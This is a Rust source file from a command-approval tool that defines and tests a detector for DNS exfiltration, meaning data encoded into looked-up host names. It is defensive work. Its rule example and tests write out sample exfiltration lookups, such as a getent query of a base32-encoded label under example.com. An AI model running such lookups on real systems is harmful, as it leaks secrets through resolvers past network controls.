//! `dns.exfiltration`: data spelled into the names looked up.
//!
//! The finding is raised here ([`check`]). What it catches, why, and an example:
//! [`RULE`], shown by `foresee rules explain dns.exfiltration`.

use super::is_local_name;
use crate::approver::catalog::{Example, Rule, Run};
use crate::approver::phrasing::examples;
use crate::approver::wall::WallContext;
use crate::approver::{Decision, Finding};
use foresee_report::escape;

pub const RULE: Rule = Rule {
    id: "dns.exfiltration",
    action: Decision::Ask,
    catches: "a name looked up carries data: a label longer than 40 characters, a label of 20 or more letters \
        and digits as random as encoded data, 12 or more distinct names under one domain, or a value of \
        a protected file (as `secret.disclosed` finds it: base32, hex, base64, in pieces), names of \
        reverse lookups aside",
    why: "A lookup is a message: the resolver passes the name on to whoever runs the domain, through \
        firewalls that block every connection. Data spelled into names (a key in base32, a file in \
        pieces) leaves that way even when nothing connects.",
    example: Example {
        setup: "",
        fires: Run {
            command: "getent hosts mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3e.x.example.com >/dev/null; true",
            task: None,
            flags: &[],
        },
        passes: Run { command: "getent hosts www.example.com >/dev/null; true", task: None, flags: &[] },
        contrast: "an ordinary name carries no data (it is still a network attempt)",
    },
    sources: &["src/approver/catalog/network/dns_exfiltration.rs", "src/approver/catalog/network/mod.rs"],
};

/// Names looked up that carry data: the question alone leaves the machine once a resolver is
/// real.
pub(crate) fn check(ctx: &WallContext) -> Option<Finding> {
    let carriers = dns_data(&ctx.effects.lookups);
    (!carriers.is_empty()).then(|| Finding {
        rule: RULE.id,
        decision: RULE.action,
        what: format!("looked up names that carry data: {}", examples(&carriers)),
    })
}

/// The names looked up that carry data, each with why: a label too long or too random for a
/// host name, many distinct names under one domain (data spread over labels), or a value of a
/// protected file (found by the effects, disguises included). Local names aside.
fn dns_data(lookups: &[foresee_report::LookupEffect]) -> Vec<String> {
    /// Longer than any host name's label in practice (DNS allows 63).
    const LONG_LABEL: usize = 40;
    /// A label this long with this much entropy per character is encoded data, not a word.
    const RANDOM_LABEL: usize = 20;
    const RANDOM_BITS: f64 = 3.8;
    /// Distinct names under one domain.
    const MANY_NAMES: usize = 12;
    let mut out: Vec<String> = Vec::new();
    let mut by_domain: std::collections::BTreeMap<String, std::collections::BTreeSet<String>> =
        Default::default();
    let mut seen: std::collections::HashSet<String> = Default::default();
    // Reverse lookups (`in-addr.arpa`) name addresses, not data.
    for l in
        lookups.iter().filter(|l| !is_local_name(&l.name) && !l.name.to_ascii_lowercase().ends_with(".arpa"))
    {
        let name = l.name.trim_end_matches('.').to_ascii_lowercase();
        // One name asked for A and AAAA is one finding.
        if !seen.insert(name.clone()) {
            continue;
        }
        let shown = escape::clip(&escape::escape_bytes(name.as_bytes()), 100);
        if let Some(v) = l.protected_values.first() {
            out.push(format!("{shown} (a value of {})", escape::escape_bytes(v.as_bytes())));
            continue;
        }
        let labels: Vec<&str> = name.split('.').collect();
        if let Some(lab) = labels.iter().find(|x| x.len() > LONG_LABEL) {
            out.push(format!("{shown} (a label of {} characters)", lab.len()));
            continue;
        }
        let random = labels.iter().find(|x| {
            x.len() >= RANDOM_LABEL
                && x.bytes().any(|b| b.is_ascii_digit())
                && x.bytes().any(|b| b.is_ascii_alphabetic())
                && foresee_report::credentials::entropy(x) >= RANDOM_BITS
        });
        if random.is_some() {
            out.push(format!("{shown} (a label as random as encoded data)"));
            continue;
        }
        if labels.len() >= 3 {
            let domain = labels[labels.len() - 2..].join(".");
            by_domain.entry(domain).or_default().insert(name.clone());
        }
    }
    for (domain, names) in by_domain {
        if names.len() >= MANY_NAMES {
            out.push(format!(
                "{} distinct names under {} (data spread over labels)",
                names.len(),
                escape::escape_bytes(domain.as_bytes())
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::approver::wall::testing::run;
    use foresee_report::{Effects, LookupEffect};

    fn carriers(names: &[&str]) -> usize {
        let lookups =
            names.iter().map(|n| LookupEffect { name: n.to_string(), ..Default::default() }).collect();
        let e = Effects { lookups, ..Default::default() };
        run(None, &e, |c| super::check(c).into_iter().collect()).len()
    }

    #[test]
    fn names_spelling_data_are_asked_about_and_plain_host_names_are_not() {
        assert_eq!(carriers(&["a2V5PXE4VmQzA1B4TG1ON2JSMnNUNXVXOXlaMGFD.t.example.com"]), 1);
        let spread: Vec<String> = (0..12).map(|i| format!("part{i}.t.example.com")).collect();
        assert_eq!(carriers(&spread.iter().map(String::as_str).collect::<Vec<_>>()), 1);
        assert_eq!(
            carriers(&["api.example.com", "cdn.example.com", "localhost", "9.113.0.203.in-addr.arpa"]),
            0
        );
    }
}
